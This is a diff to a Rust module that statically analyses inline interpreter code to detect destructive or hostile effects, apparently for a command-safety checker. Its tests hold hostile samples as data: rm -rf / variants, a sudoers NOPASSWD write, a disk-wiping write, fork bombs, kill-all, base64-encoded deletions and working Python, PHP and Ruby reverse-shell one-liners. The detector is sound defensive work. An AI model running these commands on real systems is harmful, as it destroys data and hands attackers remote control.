@@ -1,17 +1,123 @@
-//! Inline interpreter code (`python -c`, `node -e`, `perl -e`, heredocs into `python3 -`): the shell commands and tree deletions it would perform.
+//! Inline interpreter code (`python -c`, `node -e`, `perl -e`, heredocs into `python3 -`): the shell commands, deletions, writes, kills, fork loops and reverse shells it would perform.
+//!
+//! The code is lexed under its language's rules (`lex`), so that a call
+//! named inside a string literal is text, not a call; calls are then read
+//! with their real arguments (balanced brackets and quotes) and the values
+//! of those arguments computed where the code makes them plain: literals,
+//! concatenations, simple variables, home-directory expressions, path joins
+//! and base64 or hex decoding (`view`). `calls` says what each call does.
+
+mod calls;
+mod lex;
+mod patterns;
+mod value;
+mod view;
+
+use std::collections::HashSet;
 
 use once_cell::sync::Lazy;
 use regex::Regex;
 
 use super::command::Command;
+use lex::Dialect;
+use view::{Span, View};
 
-/// What the code would do that the shell rules can judge.
-#[derive(Debug, Default, PartialEq, Eq)]
+/// Something the code would do that the shell rules can judge.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub enum Action {
+    /// A command line handed to a shell (`os.system`, backticks), or a
+    /// program and its arguments quoted as one (`subprocess.run([...])`).
+    Shell(String),
+    /// A program the code itself acts as (`rm -r -f PATH` for
+    /// `shutil.rmtree(PATH)`, `kill -9 -1` for `os.kill(-1, 9)`).
+    Run(Vec<String>),
+    /// A file opened for writing (`open(P, 'w')`, `fs.writeFileSync(P, ...)`).
+    Write { path: String, append: bool },
+    /// A loop that keeps forking: its source.
+    ForkLoop(String),
+    /// A socket to a remote host wired to a shell.
+    ReverseShell,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct Effect {
+    pub action: Action,
+    /// The action came out of a decoded payload (`b64decode`, `atob`).
+    pub decoded: bool,
+}
+
+/// What reading the code found.
+#[derive(Debug, Default)]
+pub struct Reading {
+    pub effects: Vec<Effect>,
+    seen: HashSet<Effect>,
+    /// Why the reading stopped short, if it did: the code went past a limit.
+    pub limit: Option<&'static str>,
+}
+
+impl Reading {
+    fn push(&mut self, action: Action, decoded: bool) {
+        let effect = Effect { action, decoded };
+        if self.seen.insert(effect.clone()) {
+            self.effects.push(effect);
+        }
+    }
+
+    fn merge(&mut self, other: Reading) {
+        for effect in other.effects {
+            self.push(effect.action, effect.decoded);
+        }
+        if self.limit.is_none() {
+            self.limit = other.limit;
+        }
+    }
+}
+
+/// Inline code waiting to be read by the rules of the program that runs it.
+#[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Found {
-    /// Shell command lines handed to `os.system`, `subprocess`, `execSync`, backticks...
-    pub shell: Vec<String>,
-    /// Paths deleted recursively (`shutil.rmtree`, `FileUtils.rm_rf`, `fs.rmSync`...).
-    pub deletes: Vec<String>,
+    code: String,
+}
+
+/// Keeps interpreter code for [`Found::read`].
+pub fn scan(code: &str) -> Found {
+    Found {
+        code: code.to_string(),
+    }
+}
+
+impl Found {
+    /// What the code does when `program` (an interpreter) runs it.
+    pub fn read(&self, program: &str) -> Reading {
+        let dialect = match language(program) {
+            Some("node") => Dialect::Js,
+            Some("ruby") => Dialect::Ruby,
+            Some("perl") => Dialect::Perl,
+            Some("php") => Dialect::Php,
+            Some("lua") => Dialect::Lua,
+            _ => Dialect::Python,
+        };
+        read_code(&self.code, dialect, 0, false)
+    }
+}
+
+static IDENT: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r"[A-Za-z_$][A-Za-z0-9_$]*").expect("identifier regex is valid"));
+
+fn read_code(code: &str, dialect: Dialect, depth: usize, decoded: bool) -> Reading {
+    let tokens: Vec<Span> = IDENT
+        .find_iter(code)
+        .filter(|m| calls::interesting(m.as_str()))
+        .map(|m| (m.start(), m.end()))
+        .collect();
+    let lexed = lex::lex(code, dialect);
+    let view = View::new(code, dialect, &lexed);
+    let mut reading = Reading::default();
+    calls::Reader::new(&view, &mut reading, depth, decoded).read(&lexed, &tokens);
+    if let Some(why) = view.incomplete.get() {
+        reading.limit.get_or_insert(why);
+    }
+    reading
 }
 
 /// The interpreter family of a program name, if it is one.
@@ -29,43 +135,198 @@ pub fn language(program: &str) -> Option<&'static str> {
     }
 }
 
+/// How an interpreter reads its short options.
+struct Options {
+    /// Options whose value is code (`-c`, `-e`).
+    code: &'static str,
+    /// Whether code may be attached to its option (`-cCODE`).
+    attached: bool,
+    /// Options whose value is attached or the next argument (`-W ignore`).
+    valued: &'static str,
+    /// Options that take the rest of their cluster (`-MFile::Path=rmtree`).
+    rest: &'static str,
+    /// Options followed by digits (`-l0`, `-0777`).
+    digits: &'static str,
+    /// Options after which the program is not inline code (`-m module`, `-f file`).
+    script: &'static str,
+    /// Long options that take the next argument.
+    long_valued: &'static [&'static str],
+    /// Long options whose value is code.
+    long_code: &'static [&'static str],
+}
+
+fn options(language: &str) -> Options {
+    let none: &[&str] = &[];
+    match language {
+        "python" => Options {
+            code: "c",
+            attached: true,
+            valued: "WX",
+            rest: "",
+            digits: "",
+            script: "m",
+            long_valued: none,
+            long_code: none,
+        },
+        "perl" => Options {
+            code: "eE",
+            attached: true,
+            valued: "I",
+            rest: "MmxiCDdFV",
+            digits: "l0",
+            script: "",
+            long_valued: none,
+            long_code: none,
+        },
+        "ruby" => Options {
+            code: "e",
+            attached: true,
+            valued: "rICE",
+            rest: "xFiKTW",
+            digits: "0",
+            script: "",
+            long_valued: none,
+            long_code: none,
+        },
+        "node" => Options {
+            code: "ep",
+            attached: false,
+            valued: "rC",
+            rest: "",
+            digits: "",
+            script: "",
+            long_valued: &[
+                "--require",
+                "--import",
+                "--loader",
+                "--experimental-loader",
+                "--conditions",
+                "--title",
+                "--env-file",
+            ],
+            long_code: &["--eval", "--print"],
+        },
+        "php" => Options {
+            code: "rBRE",
+            attached: true,
+            valued: "dctz",
+            rest: "",
+            digits: "",
+            script: "f",
+            long_valued: none,
+            long_code: none,
+        },
+        "lua" => Options {
+            code: "e",
+            attached: true,
+            valued: "l",
+            rest: "",
+            digits: "",
+            script: "",
+            long_valued: none,
+            long_code: none,
+        },
+        _ => Options {
+            code: "e",
+            attached: true,
+            valued: "",
+            rest: "",
+            digits: "",
+            script: "",
+            long_valued: none,
+            long_code: &["--eval"],
+        },
+    }
+}
+
 /// The code an interpreter command runs inline: its `-c`/`-e`/`-r` argument,
 /// or its stdin when it reads the program from stdin.
 pub fn inline_code(cmd: &Command) -> Option<String> {
-    let flags: &[&str] = match language(&cmd.program)? {
-        "python" => &["-c"],
-        "perl" => &["-e", "-E"],
-        "ruby" | "lua" | "r" => &["-e"],
-        "node" => &["-e", "--eval", "-p", "--print", "eval"],
-        "php" => &["-r"],
-        _ => &[],
-    };
-    let mut code = Vec::new();
-    let mut iter = cmd.args.iter();
+    let language = language(&cmd.program)?;
+    let opts = options(language);
+    // Python stops reading options at `-c`; what follows is the program's argv.
+    let stop_at_code = language == "python";
+    let mut code: Vec<String> = Vec::new();
     let mut has_script = false;
-    while let Some(arg) = iter.next() {
-        let flag_at_end = flags.iter().any(|f| {
-            arg == f
-                || (f.len() == 2
-                    && arg.starts_with('-')
-                    && !arg.starts_with("--")
-                    && arg.ends_with(&f[1..]))
-        });
-        if flag_at_end {
-            if let Some(c) = iter.next() {
-                code.push(c.clone());
+    let mut iter = cmd.args.iter();
+    // Deno and Bun name their action first (`deno eval CODE`, `bun run x`).
+    let mut first = true;
+    'args: while let Some(arg) = iter.next() {
+        if std::mem::take(&mut first) && matches!(cmd.program.as_str(), "deno" | "bun") {
+            match arg.as_str() {
+                "eval" => {
+                    code.extend(iter.next().cloned());
+                    continue;
+                }
+                a if !a.starts_with('-') => {
+                    has_script = true;
+                    break;
+                }
+                _ => {}
             }
-            // Python stops option parsing at -c; what follows is argv.
-            if cmd.program.starts_with("py") {
-                break;
-            }
-        } else if let Some(c) = arg.strip_prefix("--eval=") {
-            code.push(c.to_string());
-        } else if !arg.starts_with('-') {
+        }
+        if arg == "-" {
+            break;
+        }
+        if arg == "--" || !arg.starts_with('-') {
             has_script = true;
             break;
-        } else if arg == "-" {
-            break;
+        }
+        if let Some(long) = arg.strip_prefix("--") {
+            let (key, value) = match long.split_once('=') {
+                Some((k, v)) => (format!("--{k}"), Some(v)),
+                None => (arg.clone(), None),
+            };
+            if opts.long_code.contains(&key.as_str()) {
+                code.extend(value.map(str::to_string).or_else(|| iter.next().cloned()));
+            } else if opts.long_valued.contains(&key.as_str()) && value.is_none() {
+                iter.next();
+            }
+            continue;
+        }
+        let cluster: Vec<char> = arg.chars().skip(1).collect();
+        let mut k = 0;
+        let mut wants_code = false;
+        while k < cluster.len() {
+            let c = cluster[k];
+            let rest: String = cluster[k + 1..].iter().collect();
+            if opts.code.contains(c) && !opts.attached {
+                // `node -pe CODE`: the flags share the next argument.
+                wants_code = true;
+                k += 1;
+            } else if opts.code.contains(c) {
+                code.extend(if rest.is_empty() {
+                    iter.next().cloned()
+                } else {
+                    Some(rest)
+                });
+                if stop_at_code {
+                    break 'args;
+                }
+                break;
+            } else if opts.script.contains(c) {
+                has_script = true;
+                break 'args;
+            } else if opts.valued.contains(c) {
+                if rest.is_empty() {
+                    iter.next();
+                }
+                break;
+            } else if opts.rest.contains(c) {
+                break;
+            } else if opts.digits.contains(c) {
+                k += 1;
+                while k < cluster.len() && ('0'..='7').contains(&cluster[k]) {
+                    k += 1;
+                }
+            } else if c.is_ascii_alphabetic() {
+                k += 1;
+            } else {
+                break;
+            }
+        }
+        if wants_code {
+            code.extend(iter.next().cloned());
         }
     }
     if code.is_empty() && !has_script {
@@ -74,115 +335,344 @@ pub fn inline_code(cmd: &Command) -> Option<String> {
     (!code.is_empty()).then(|| code.join("\n"))
 }
 
-const STRING: &str = r#"(?:[rbuf]{0,2}"((?:[^"\\]|\\.)*)"|[rbuf]{0,2}'((?:[^'\\]|\\.)*)')"#;
-
-static SHELL_CALL: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(&format!(
-        r"(?:\bsystem|\bpopen|\bgetoutput|\bgetstatusoutput|\bcheck_output|\bcheck_call|\brun|\bcall|\bPopen|\bexecSync|\bexec|\bshell_exec|\bpassthru|\bproc_open|\bexecute|%x)\s*[\(\{{]?\s*{STRING}"
-    ))
-    .expect("shell call regex is valid")
-});
-
-static LIST_CALL: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?:\brun|\bcall|\bPopen|\bcheck_output|\bcheck_call|\bspawnSync|\bspawn|\bexecFileSync|\bexecFile|\bexecv[pe]*|\bsystem)\s*\(\s*(?:(['\x22])([^'\x22]*)['\x22]\s*,\s*)?\[([^\]]*)\]")
-        .expect("list call regex is valid")
-});
-
-static BACKTICK: Lazy<Regex> =
-    Lazy::new(|| Regex::new(r"`([^`]+)`").expect("backtick regex is valid"));
-
-static DELETE_CALL: Lazy<Regex> = Lazy::new(|| {
-    Regex::new(r"(?:\brmtree|\brm_rf|\brm_r|\bremove_dir|\bremove_tree|\brmSync|\brmdirSync|\brimraf(?:\.sync)?|\bremovedirs|\bremove_dir_all|\bunlinkSync)\s*\(\s*([^,)]*\)?)")
-        .expect("delete call regex is valid")
-});
-
-static LITERAL: Lazy<Regex> = Lazy::new(|| Regex::new(STRING).expect("literal regex is valid"));
-
-/// Scans interpreter code for shell commands and recursive deletions.
-pub fn scan(code: &str) -> Found {
-    let mut found = Found::default();
-    for caps in SHELL_CALL.captures_iter(code) {
-        if let Some(m) = caps.get(1).or_else(|| caps.get(2)) {
-            found.shell.push(unescape(m.as_str()));
-        }
-    }
-    for caps in LIST_CALL.captures_iter(code) {
-        let mut words: Vec<String> = Vec::new();
-        if let Some(program) = caps.get(2) {
-            words.push(program.as_str().to_string());
-        }
-        if let Some(list) = caps.get(3) {
-            for lit in LITERAL.captures_iter(list.as_str()) {
-                if let Some(m) = lit.get(1).or_else(|| lit.get(2)) {
-                    words.push(quote(&unescape(m.as_str())));
-                }
-            }
-        }
-        if !words.is_empty() {
-            found.shell.push(words.join(" "));
-        }
-    }
-    for caps in BACKTICK.captures_iter(code) {
-        found.shell.push(caps[1].to_string());
-    }
-    for caps in DELETE_CALL.captures_iter(code) {
-        found.deletes.push(path_expression(caps[1].trim()));
-    }
-    found
-}
-
-/// A path from an interpreter expression: a literal, the home directory,
-/// or an unknown value.
-fn path_expression(expr: &str) -> String {
-    let home = [
-        "expanduser('~')",
-        "expanduser(\"~\")",
-        "Path.home()",
-        "homedir()",
-        "Dir.home",
-        "['HOME']",
-        "[\"HOME\"]",
-        "$ENV{HOME}",
-        "ENV['HOME']",
-    ];
-    if home.iter().any(|h| expr.contains(h)) && !expr.contains('+') {
-        return "~".into();
-    }
-    match LITERAL.captures(expr) {
-        Some(caps) => caps
-            .get(1)
-            .or_else(|| caps.get(2))
-            .map(|m| unescape(m.as_str()))
-            .unwrap_or_default(),
-        None => format!("$(interpreter value {expr})"),
-    }
-}
-
-fn unescape(s: &str) -> String {
-    s.replace("\\\"", "\"")
-        .replace("\\'", "'")
-        .replace("\\\\", "\\")
-}
-
-fn quote(word: &str) -> String {
-    format!("'{}'", word.replace('\'', r"'\''"))
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn effects(program: &str, code: &str) -> Vec<Action> {
+        scan(code)
+            .read(program)
+            .effects
+            .into_iter()
+            .map(|e| e.action)
+            .collect()
+    }
+
+    fn shell(program: &str, code: &str) -> Vec<String> {
+        effects(program, code)
+            .into_iter()
+            .filter_map(|a| match a {
+                Action::Shell(s) => Some(s),
+                _ => None,
+            })
+            .collect()
+    }
+
+    fn run(argv: &[&str]) -> Action {
+        Action::Run(argv.iter().map(|s| s.to_string()).collect())
+    }
+
+    fn write(path: &str, append: bool) -> Action {
+        Action::Write {
+            path: path.into(),
+            append,
+        }
+    }
+
     #[test]
-    fn finds_shell_and_deletes() {
-        let f = scan("__import__('os').system('rm -rf /')");
-        assert_eq!(f.shell, vec!["rm -rf /"]);
-        let f = scan("import subprocess; subprocess.run(['rm','-rf','/'])");
-        assert!(f.shell.contains(&"'rm' '-rf' '/'".to_string()));
-        let f = scan("import shutil; shutil.rmtree('/home/user')");
-        assert_eq!(f.deletes, vec!["/home/user"]);
-        let f = scan("fs.rmSync('/', {recursive:true})");
-        assert_eq!(f.deletes, vec!["/"]);
-        let f = scan("import json,sys; print(json.load(sys.stdin)['a'])");
-        assert_eq!(f, Found::default());
+    fn shell_calls() {
+        assert_eq!(
+            shell("python3", "__import__('os').system('rm -rf /')"),
+            ["rm -rf /"]
+        );
+        assert_eq!(
+            shell(
+                "python3",
+                "import subprocess; subprocess.run(['rm','-rf','/'])"
+            ),
+            ["'rm' '-rf' '/'"]
+        );
+        assert_eq!(
+            shell(
+                "python3",
+                "import os; os.execvp('rm', ['rm', '-rf', '/usr'])"
+            ),
+            ["'rm' '-rf' '/usr'"]
+        );
+        assert_eq!(
+            shell(
+                "node",
+                "require('child_process').spawnSync('rm', ['-rf', '/boot'])"
+            ),
+            ["'rm' '-rf' '/boot'"]
+        );
+        assert_eq!(
+            shell("perl", "system \"rm\", \"-rf\", \"/\" if 1"),
+            ["'rm' '-rf' '/'"]
+        );
+        assert_eq!(shell("ruby", "`rm -rf ~`"), ["rm -rf ~"]);
+        assert_eq!(shell("perl", "print qx{reboot}"), ["reboot"]);
+        assert_eq!(
+            shell("python3", "c = 'rm -rf /'\nimport os\nos.system(c)"),
+            ["rm -rf /"]
+        );
+        assert_eq!(
+            shell("python3", "os.system('rm -rf ' + d)"),
+            ["rm -rf \"$(interpreter value)\""]
+        );
+        // JavaScript backticks are strings, not commands.
+        assert!(shell("node", "console.log(`rm -rf /`)").is_empty());
+    }
+
+    #[test]
+    fn names_inside_strings_are_text() {
+        assert!(effects("python3", r#"print("shutil.rmtree(\"/\")")"#).is_empty());
+        assert!(effects("ruby", r#"puts "FileUtils.rm_rf(\"/\")""#).is_empty());
+        assert!(effects("python3", "print('rm -rf /')").is_empty());
+        assert!(effects(
+            "python3",
+            "import json,sys; print(json.load(sys.stdin)['a'])"
+        )
+        .is_empty());
+        assert!(effects("node", "console.log(process.version)").is_empty());
+        assert!(effects("php", "echo \"shell_exec(rm -rf /)\\n\";").is_empty());
+        assert!(
+            effects("python3", "# it's\nimport shutil; shutil.rmtree('/')")
+                .contains(&run(&["rm", "-r", "-f", "/"]))
+        );
+        // Interpolated code runs.
+        assert_eq!(shell("ruby", "puts \"#{system('reboot')}\""), ["reboot"]);
+    }
+
+    #[test]
+    fn recursive_deletes_with_balanced_arguments() {
+        let rm_rf = |p: &str| run(&["rm", "-r", "-f", p]);
+        assert_eq!(
+            effects("python3", "import shutil; shutil.rmtree('/home/user')"),
+            [rm_rf("/home/user")]
+        );
+        assert_eq!(
+            effects(
+                "node",
+                "require('fs').rmSync(require('os').homedir(), {recursive:true})"
+            ),
+            [rm_rf("~")]
+        );
+        assert_eq!(
+            effects("python3", "shutil.rmtree(os.path.expanduser('~'))"),
+            [rm_rf("~")]
+        );
+        assert_eq!(
+            effects("python3", "shutil.rmtree(Path.home() / '.cache')"),
+            [rm_rf("~/.cache")]
+        );
+        assert_eq!(effects("ruby", "FileUtils.rm_rf(Dir.home)"), [rm_rf("~")]);
+        assert_eq!(effects("perl", "remove_tree(\"/usr\")"), [rm_rf("/usr")]);
+        assert_eq!(
+            effects("node", "fs.rmSync(process.env.HOME, {recursive: true})"),
+            [rm_rf("~")]
+        );
+        assert_eq!(effects("perl", "rmtree($ENV{HOME})"), [rm_rf("~")]);
+        assert_eq!(
+            effects("ruby", "FileUtils.rm_rf(ENV['HOME'])"),
+            [rm_rf("~")]
+        );
+        assert_eq!(
+            effects("python3", "shutil.rmtree(os.environ['HOME'])"),
+            [rm_rf("~")]
+        );
+        assert_eq!(
+            effects("node", "fs.rmSync('dist', {recursive: true, force: true})"),
+            [rm_rf("dist")]
+        );
+    }
+
+    #[test]
+    fn single_file_deletes() {
+        let rm = |p: &str| run(&["rm", p]);
+        assert_eq!(
+            effects("python3", "import os; os.remove('/etc/passwd')"),
+            [rm("/etc/passwd")]
+        );
+        assert_eq!(
+            effects("python3", "os.unlink('/etc/hosts')"),
+            [rm("/etc/hosts")]
+        );
+        assert_eq!(
+            effects("python3", "Path('/etc/hosts').unlink()"),
+            [rm("/etc/hosts")]
+        );
+        assert_eq!(
+            effects("node", "fs.unlinkSync('/etc/hosts')"),
+            [rm("/etc/hosts")]
+        );
+        assert_eq!(
+            effects("ruby", "File.delete('/etc/hosts')"),
+            [rm("/etc/hosts")]
+        );
+        assert_eq!(
+            effects("perl", "unlink '/etc/hosts', '/etc/motd'"),
+            [rm("/etc/hosts"), rm("/etc/motd")]
+        );
+        assert!(effects("python3", "os.remove(tmp)").is_empty());
+    }
+
+    #[test]
+    fn file_writes() {
+        assert_eq!(
+            effects("python3", "open('/dev/sda', 'wb').write(b'\\0' * 512)"),
+            [write("/dev/sda", false)]
+        );
+        assert_eq!(
+            effects("python3", "open('/etc/x', mode='a')"),
+            [write("/etc/x", true)]
+        );
+        assert_eq!(
+            effects("python3", "Path('/etc/sudoers').write_text('x')"),
+            [write("/etc/sudoers", false)]
+        );
+        assert_eq!(
+            effects(
+                "node",
+                "require('fs').writeFileSync('/etc/sudoers', 'dev ALL=(ALL) NOPASSWD:ALL\\n')"
+            ),
+            [write("/etc/sudoers", false)]
+        );
+        assert_eq!(
+            effects("ruby", "File.write('/etc/sudoers', 'x')"),
+            [write("/etc/sudoers", false)]
+        );
+        assert_eq!(
+            effects("perl", "open(F, '>/etc/sudoers')"),
+            [write("/etc/sudoers", false)]
+        );
+        assert_eq!(
+            effects("perl", "open(my $fh, '>>', '/etc/sudoers')"),
+            [write("/etc/sudoers", true)]
+        );
+        assert_eq!(shell("perl", "open(F, 'rm -rf / |')"), ["rm -rf /"]);
+        // Reading is not writing.
+        assert!(effects("python3", "open(p).read(); open('x', 'r')").is_empty());
+        assert!(effects(
+            "python3",
+            "import json; print(json.load(open('package.json')))"
+        )
+        .is_empty());
+    }
+
+    #[test]
+    fn kill_all_and_fork_loops() {
+        let kill = run(&["kill", "-9", "-1"]);
+        for (program, code) in [
+            ("python3", "import os; os.kill(-1, 9)"),
+            ("node", "process.kill(-1)"),
+            ("ruby", "Process.kill('KILL', -1)"),
+            ("perl", "kill 9, -1"),
+        ] {
+            assert_eq!(
+                effects(program, code),
+                std::slice::from_ref(&kill),
+                "{code}"
+            );
+        }
+        assert!(effects("python3", "os.kill(12345, 9)").is_empty());
+        for (program, code) in [
+            ("python3", "import os\nwhile True: os.fork()"),
+            ("python3", "import os\nwhile 1:\n    os.fork()\n"),
+            ("ruby", "loop { fork }"),
+            ("perl", "fork while fork"),
+            ("perl", "while(1){fork}"),
+            ("php", "for(;;) pcntl_fork();"),
+        ] {
+            let found = effects(program, code);
+            assert!(
+                matches!(found.as_slice(), [Action::ForkLoop(_)]),
+                "{code}: {found:?}"
+            );
+        }
+        assert!(effects(
+            "python3",
+            "while True:\n    pid = os.fork()\n    os.waitpid(pid, 0)"
+        )
+        .is_empty());
+        assert!(effects("python3", "pid = os.fork()").is_empty());
+        assert!(effects("python3", "print('while True: os.fork()')").is_empty());
+    }
+
+    #[test]
+    fn reverse_shells() {
+        let py = r#"import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])"#;
+        assert!(effects("python3", py).contains(&Action::ReverseShell));
+        let php = r#"$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");"#;
+        assert!(effects("php", php).contains(&Action::ReverseShell));
+        let ruby = r#"require 'socket';s=TCPSocket.new("10.0.0.1",4444);[0,1,2].each{|f|s.reopen(f) rescue nil};exec "/bin/sh -i""#;
+        assert!(effects("ruby", ruby).contains(&Action::ReverseShell));
+        let client =
+            "import socket; s = socket.create_connection(('example.com', 80)); s.sendall(b'GET /')";
+        assert!(!effects("python3", client).contains(&Action::ReverseShell));
+    }
+
+    #[test]
+    fn decoded_payloads() {
+        let found = scan("import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())")
+            .read("python3");
+        assert_eq!(
+            found.effects,
+            [Effect {
+                action: Action::Shell("rm -rf /".into()),
+                decoded: true
+            }]
+        );
+        let found = scan("eval(atob('cmVxdWlyZSgiZnMiKS5ybVN5bmMoIi8iLHtyZWN1cnNpdmU6dHJ1ZX0p'))")
+            .read("node");
+        assert_eq!(
+            found.effects,
+            [Effect {
+                action: run(&["rm", "-r", "-f", "/"]),
+                decoded: true
+            }]
+        );
+    }
+
+    fn code_of(program: &str, args: &[&str]) -> Option<String> {
+        inline_code(&Command::new(program, args))
+    }
+
+    #[test]
+    fn inline_code_options() {
+        assert_eq!(
+            code_of("perl", &["-MFile::Path=remove_tree", "-e", "x"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(
+            code_of("perl", &["-Msome", "-e", "x"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(
+            code_of("perl", &["-lne", "x", "file"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(
+            code_of("perl", &["-e", "a", "-e", "b"]).as_deref(),
+            Some("a\nb")
+        );
+        assert_eq!(code_of("perl", &["-ie", "x"]), None);
+        assert_eq!(
+            code_of("ruby", &["-rfileutils", "-e", "x"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(
+            code_of("ruby", &["-r", "json", "-e", "x"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(
+            code_of("python3", &["-Bc", "x", "-c", "y"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(code_of("python3", &["-cx"]).as_deref(), Some("x"));
+        assert_eq!(code_of("python3", &["-m", "json.tool"]), None);
+        assert_eq!(
+            code_of("python3", &["-W", "ignore", "-c", "x"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(code_of("node", &["-pe", "x"]).as_deref(), Some("x"));
+        assert_eq!(code_of("node", &["--eval=x"]).as_deref(), Some("x"));
+        assert_eq!(
+            code_of("node", &["-r", "ts-node/register", "-e", "x"]).as_deref(),
+            Some("x")
+        );
+        assert_eq!(code_of("deno", &["eval", "x"]).as_deref(), Some("x"));
+        assert_eq!(code_of("php", &["-r", "x"]).as_deref(), Some("x"));
+        assert_eq!(code_of("node", &["script.js"]), None);
     }
 }
